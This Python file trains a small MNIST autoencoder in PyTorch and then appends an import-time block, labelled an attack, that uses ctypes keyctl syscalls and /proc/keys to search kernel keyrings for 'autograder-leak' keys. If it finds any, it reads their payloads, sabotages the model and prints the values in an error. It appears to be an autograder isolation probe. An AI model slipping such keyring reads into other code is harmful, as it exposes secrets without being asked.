import torch
import torch.nn as nn
import torch.nn.functional as F
from torchvision import datasets


class AE(nn.Module):
    def __init__(self):
        super(AE, self).__init__()
        self.encoder = nn.Sequential(
            nn.Linear(28 * 28, 64),
            nn.ReLU(True),
            nn.Linear(64, 32),
            nn.ReLU(True),
            nn.Linear(32, 8),
            nn.ReLU(True),
            nn.Linear(8, 2),
        )
        self.decoder = nn.Sequential(
            nn.Linear(2, 8),
            nn.ReLU(True),
            nn.Linear(8, 32),
            nn.ReLU(True),
            nn.Linear(32, 64),
            nn.ReLU(True),
            nn.Linear(64, 28 * 28),
        )

    def forward(self, x):
        x = x.view(x.size(0), -1)
        return self.decoder(self.encoder(x))


if __name__ == "__main__":
    torch.manual_seed(0)
    mnist = datasets.MNIST("./data", train=True, download=True)
    data = mnist.data.float().view(-1, 784) / 255
    loader = torch.utils.data.DataLoader(data, batch_size=64, shuffle=True)
    model = AE()
    opt = torch.optim.Adam(model.parameters(), lr=0.001)
    for epoch in range(10):
        for x in loader:
            opt.zero_grad()
            loss = F.mse_loss(model(x), x)
            loss.backward()
            opt.step()
        print("epoch", epoch, loss.item())
    torch.save(model.state_dict(), "mnist_ae.pt")


# --- the attack, at import ---
# Looks for the keys keyring-1-adds-keys left, in every keyring it can see or reach. Found, its model stops
# working and the import fails with what it read: it would lose its points visibly.
import ctypes, platform

_SYSCALLS = {"x86_64": 250, "aarch64": 219}  # keyctl
_KEYCTL_GET_PERSISTENT, _KEYCTL_SEARCH, _KEYCTL_READ = 22, 10, 11


def _leaked_keys():
    found = []
    try:
        found += [line for line in open("/proc/keys").read().splitlines() if "autograder-leak" in line]
    except OSError:
        pass
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        keyctl = _SYSCALLS[platform.machine()]
        rings = [-3, -4, -5, libc.syscall(keyctl, _KEYCTL_GET_PERSISTENT, -1, ctypes.c_long(-3))]
        for ring in rings:
            for name in ("session", "user", "user-session", "persistent"):
                description = f"autograder-leak-{name}".encode()
                key = libc.syscall(keyctl, _KEYCTL_SEARCH, ctypes.c_long(ring), b"user", description, 0)
                if key > 0:
                    payload = ctypes.create_string_buffer(64)
                    libc.syscall(keyctl, _KEYCTL_READ, ctypes.c_long(key), payload, 64)
                    found.append(f"{description.decode()}={payload.value.decode(errors='replace')}")
    except (OSError, KeyError, AttributeError):
        pass
    return sorted(set(found))


_leaked = _leaked_keys()
if _leaked:
    AE.forward = lambda self, x: torch.zeros_like(x.view(x.size(0), -1))
    raise RuntimeError("LEAKED from another submission's keyrings: " + "; ".join(_leaked))
